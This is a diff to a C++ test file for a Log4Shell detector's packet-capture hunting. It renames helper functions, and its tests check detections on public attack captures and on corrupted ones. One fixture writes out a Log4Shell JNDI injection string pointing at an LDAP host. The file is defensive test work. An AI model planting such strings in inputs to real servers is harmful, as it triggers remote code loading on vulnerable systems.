@@ -35,7 +35,7 @@ struct Expected {
   size_t ldap_searches = 0, rmi_lookups = 0, incidents = 0;
 };
 
-std::set<std::string> SplitSet(const std::string& field) {
+std::set<std::string> split_set(const std::string& field) {
   std::set<std::string> out;
   if (field == "-") return out;
   std::stringstream ss(field);
@@ -44,7 +44,7 @@ std::set<std::string> SplitSet(const std::string& field) {
   return out;
 }
 
-std::vector<Expected> LoadExpected() {
+std::vector<Expected> load_expected() {
   std::vector<Expected> rows;
   std::ifstream in(kExpected);
   std::string line;
@@ -66,14 +66,14 @@ std::vector<Expected> LoadExpected() {
     Expected e;
     e.file = f[0];
     e.link = f[1];
-    e.inbound_flows = SplitSet(f[2]);
-    e.callbacks = SplitSet(f[3]);
+    e.inbound_flows = split_set(f[2]);
+    e.callbacks = split_set(f[3]);
     e.ldap_searches = std::stoul(f[4]);
-    e.ldap_dns = SplitSet(f[5]);
+    e.ldap_dns = split_set(f[5]);
     e.rmi_lookups = std::stoul(f[6]);
-    e.rmi_names = SplitSet(f[7]);
-    e.dns_txt = SplitSet(f[8]);
-    e.served = SplitSet(f[9]);
+    e.rmi_names = split_set(f[7]);
+    e.dns_txt = split_set(f[8]);
+    e.served = split_set(f[9]);
     e.incidents = std::stoul(f[10]);
     rows.push_back(std::move(e));
   }
@@ -82,7 +82,7 @@ std::vector<Expected> LoadExpected() {
 
 // The capture for a row: a file under attack-data, or "zip!member" extracted
 // into the scratch folder.
-std::string CapturePath(const std::string& file) {
+std::string capture_path(const std::string& file) {
   size_t bang = file.find('!');
   if (bang == std::string::npos) return (kAttackData / file).string();
   fs::path zip = kAttackData / file.substr(0, bang);
@@ -96,14 +96,14 @@ std::string CapturePath(const std::string& file) {
   return out.string();
 }
 
-std::string LinkName(const std::string& tshark) {
+std::string link_name(const std::string& tshark) {
   if (tshark == "ether") return "ethernet";
   return tshark;  // linux-sll
 }
 
 std::string FlowKey(const hunt::NetworkContext& f) { return f.src_ip + ">" + f.dst_ip + ":" + std::to_string(f.dst_port); }
 
-std::set<std::string> ServedKinds(const CaptureResult& r) {
+std::set<std::string> served_kinds(const CaptureResult& r) {
   std::set<std::string> out;
   for (const NetEvent& e : r.events) {
     switch (e.kind) {
@@ -127,16 +127,16 @@ std::set<std::string> ServedKinds(const CaptureResult& r) {
 
 TEST(PcapAttackData, EveryCaptureMatchesTheTsharkExpectations) {
   if (!fs::is_directory(kAttackData)) GTEST_SKIP() << "fixtures not found at " << kAttackData << " (../shared/fixtures/attack-data)";
-  std::vector<Expected> rows = LoadExpected();
+  std::vector<Expected> rows = load_expected();
   ASSERT_GE(rows.size(), 88u) << "every capture of attack-data has a row";
   size_t attempts = 0, ldap = 0, rmi = 0, incidents = 0;
   for (const Expected& e : rows) {
     SCOPED_TRACE(e.file);
-    std::string path = CapturePath(e.file);
+    std::string path = capture_path(e.file);
     ASSERT_FALSE(path.empty()) << "cannot extract " << e.file;
-    CaptureResult r = HuntCapture(path);
+    CaptureResult r = hunt_capture(path);
     EXPECT_TRUE(r.errors.empty()) << r.errors.front();
-    EXPECT_EQ(r.link_type, LinkName(e.link));
+    EXPECT_EQ(r.link_type, link_name(e.link));
 
     std::set<std::string> flows, callbacks;
     for (const hunt::Detection& d : r.detections) {
@@ -167,7 +167,7 @@ TEST(PcapAttackData, EveryCaptureMatchesTheTsharkExpectations) {
     EXPECT_EQ(rmi_lookups, e.rmi_lookups);
     EXPECT_EQ(rmi_names, e.rmi_names);
     EXPECT_EQ(dns_txt, e.dns_txt);
-    EXPECT_EQ(ServedKinds(r), e.served);
+    EXPECT_EQ(served_kinds(r), e.served);
 
     std::set<std::string> incident_keys;  // attacker connection + callback
     for (const Incident& inc : r.incidents) {
@@ -191,7 +191,7 @@ TEST(PcapAttackData, EveryCaptureMatchesTheTsharkExpectations) {
 }
 
 // Copies the first `size` bytes of `from` to the scratch folder.
-std::string Truncated(const fs::path& from, size_t size, const std::string& name) {
+std::string truncated(const fs::path& from, size_t size, const std::string& name) {
   fs::create_directories(kScratch);
   std::ifstream in(from, std::ios::binary);
   std::string bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
@@ -206,8 +206,8 @@ TEST(PcapAttackData, TruncatedCaptureGivesAnErrorAndKeepsWhatCameBefore) {
   if (!fs::exists(src)) GTEST_SKIP() << "fixtures not found at " << kAttackData;
   size_t full = fs::file_size(src);
   // Cut in the middle of a record: libpcap reports a truncated dump file.
-  std::string path = Truncated(src, full / 2 + 7, "truncated-half.pcap");
-  CaptureResult r = HuntCapture(path);
+  std::string path = truncated(src, full / 2 + 7, "truncated-half.pcap");
+  CaptureResult r = hunt_capture(path);
   ASSERT_EQ(r.errors.size(), 1u);
   EXPECT_NE(r.errors[0].find("truncated"), std::string::npos) << r.errors[0];
   ASSERT_FALSE(r.detections.empty()) << "the attempt in frame 4 precedes the cut";
@@ -219,7 +219,7 @@ TEST(PcapAttackData, TruncatedCaptureGivesAnErrorAndKeepsWhatCameBefore) {
   EXPECT_FALSE(r.incidents.empty());
 
   // Cut inside the file header: nothing to read, but an error, not a crash.
-  CaptureResult header_only = HuntCapture(Truncated(src, 10, "truncated-header.pcap"));
+  CaptureResult header_only = hunt_capture(truncated(src, 10, "truncated-header.pcap"));
   EXPECT_EQ(header_only.errors.size(), 1u);
   EXPECT_TRUE(header_only.detections.empty());
 }
@@ -227,7 +227,7 @@ TEST(PcapAttackData, TruncatedCaptureGivesAnErrorAndKeepsWhatCameBefore) {
 TEST(PcapAttackData, CorruptRecordHeaderGivesAnErrorAndTheRestIsStillRead) {
   fs::path src = kAttackData / "corelight-cve-2021-44228/testing/Traces/log4j-user_agent.pcap";
   if (!fs::exists(src)) GTEST_SKIP() << "fixtures not found at " << kAttackData;
-  std::string path = Truncated(src, fs::file_size(src), "corrupt.pcap");
+  std::string path = truncated(src, fs::file_size(src), "corrupt.pcap");
   // Frame 5 (right after the attempt in frame 4) claims a caplen of 0x7fffffff.
   std::fstream f(path, std::ios::binary | std::ios::in | std::ios::out);
   std::string bytes((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
@@ -241,7 +241,7 @@ TEST(PcapAttackData, CorruptRecordHeaderGivesAnErrorAndTheRestIsStillRead) {
   const char huge[4] = {'\xff', '\xff', '\xff', '\x7f'};
   f.write(huge, 4);
   f.close();
-  CaptureResult r = HuntCapture(path);
+  CaptureResult r = hunt_capture(path);
   ASSERT_EQ(r.errors.size(), 1u);
   EXPECT_NE(r.errors[0].find("skipped"), std::string::npos) << r.errors[0];
   EXPECT_EQ(r.stats.frames, 428u) << "every frame but the corrupt one";
@@ -256,7 +256,7 @@ TEST(PcapAttackData, CorruptRecordHeaderGivesAnErrorAndTheRestIsStillRead) {
 TEST(PcapAttackData, CorruptPcapngBlockGivesAnErrorAndTheRestIsStillRead) {
   fs::path src = kAttackData / "fox-it-log4shell-pcaps/log4shell-ldap-pcaps/log4shell-ldaps-port-443-dsb.pcapng";
   if (!fs::exists(src)) GTEST_SKIP() << "fixtures not found at " << kAttackData;
-  std::string path = Truncated(src, fs::file_size(src), "corrupt.pcapng");
+  std::string path = truncated(src, fs::file_size(src), "corrupt.pcapng");
   std::fstream f(path, std::ios::binary | std::ios::in | std::ios::out);
   std::string bytes((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
   // Walk the blocks (little-endian file) to the 6th packet block and break its length.
@@ -274,7 +274,7 @@ TEST(PcapAttackData, CorruptPcapngBlockGivesAnErrorAndTheRestIsStillRead) {
   const char garbage[4] = {'\x01', '\x00', '\x00', '\x70'};
   f.write(garbage, 4);
   f.close();
-  CaptureResult r = HuntCapture(path);
+  CaptureResult r = hunt_capture(path);
   ASSERT_EQ(r.errors.size(), 1u);
   EXPECT_NE(r.errors[0].find("skipped"), std::string::npos) << r.errors[0];
   EXPECT_EQ(r.stats.frames, 76u) << "all 77 but the broken one";
@@ -282,7 +282,7 @@ TEST(PcapAttackData, CorruptPcapngBlockGivesAnErrorAndTheRestIsStillRead) {
   EXPECT_EQ(r.incidents.size(), 1u) << "the ClientHello naming ldaps.suspect.network comes after the damage";
 }
 
-std::string Shell(const std::string& command, int* exit_code) {
+std::string shell(const std::string& command, int* exit_code) {
   std::string out;
   FILE* p = popen(command.c_str(), "r");
   if (!p) return out;
@@ -308,7 +308,7 @@ TEST(HuntCli, CapturesAreRecognisedByMagicAndReadFromStdinWithPcap) {
   fs::copy_file(src, dir / "traffic.log");  // a capture by content, whatever its name
   std::ofstream(dir / "app.log") << "2021-12-10 10:00:00 INFO user ${jndi:ldap://198.51.100.1:1389/a}\n";
   int rc = -1;
-  std::string out = Shell("'" + std::string(L4S_BINARY) + "' hunt --format jsonl '" + dir.string() + "'", &rc);
+  std::string out = shell("'" + std::string(L4S_BINARY) + "' hunt --format jsonl '" + dir.string() + "'", &rc);
   EXPECT_EQ(rc, 1);
   EXPECT_EQ(Count(out, "\"type\":\"detection\""), 2u) << out;  // one in the log, one in the capture
   EXPECT_NE(out.find("\"network\":{\"protocol\":\"tcp\",\"src_ip\":\"172.17.0.1\""), std::string::npos) << out;
@@ -316,21 +316,21 @@ TEST(HuntCli, CapturesAreRecognisedByMagicAndReadFromStdinWithPcap) {
   EXPECT_EQ(Count(out, "\"kind\":\"rmi_lookup\""), 1u) << out;
   EXPECT_EQ(Count(out, "\"kind\":\"tcp_connect\""), 1u) << "the incident's evidence: the first contact" << out;
 
-  std::string in = Shell("'" + std::string(L4S_BINARY) + "' hunt --pcap --format jsonl - < '" + src.string() + "'", &rc);
+  std::string in = shell("'" + std::string(L4S_BINARY) + "' hunt --pcap --format jsonl - < '" + src.string() + "'", &rc);
   EXPECT_EQ(rc, 1);
   EXPECT_EQ(Count(in, "\"type\":\"detection\""), 1u) << in;
   EXPECT_EQ(Count(in, "\"type\":\"incident\""), 1u) << in;
 
   // The correlation window: Corelight's server connects back 0.050 s and 0.071 s after the attempts.
   std::string attack = (kAttackData / "corelight-cve-2021-44228/testing/Traces/log4j-attack.pcap").string();
-  std::string wide = Shell("'" + std::string(L4S_BINARY) + "' hunt --format jsonl '" + attack + "'", &rc);
+  std::string wide = shell("'" + std::string(L4S_BINARY) + "' hunt --format jsonl '" + attack + "'", &rc);
   EXPECT_EQ(Count(wide, "\"type\":\"incident\""), 2u) << wide;
   std::string narrow =
-      Shell("'" + std::string(L4S_BINARY) + "' hunt --pcap-window 0.06 --format jsonl '" + attack + "'", &rc);
+      shell("'" + std::string(L4S_BINARY) + "' hunt --pcap-window 0.06 --format jsonl '" + attack + "'", &rc);
   EXPECT_EQ(Count(narrow, "\"type\":\"incident\""), 1u) << narrow;
 
   // --pcap on something that is not a capture: an error, exit 2.
-  std::string bad = Shell("'" + std::string(L4S_BINARY) + "' hunt --pcap --format jsonl '" + (dir / "app.log").string() + "'", &rc);
+  std::string bad = shell("'" + std::string(L4S_BINARY) + "' hunt --pcap --format jsonl '" + (dir / "app.log").string() + "'", &rc);
   EXPECT_EQ(rc, 2) << bad;
   EXPECT_EQ(Count(bad, "\"type\":\"error\""), 1u) << bad;
 }
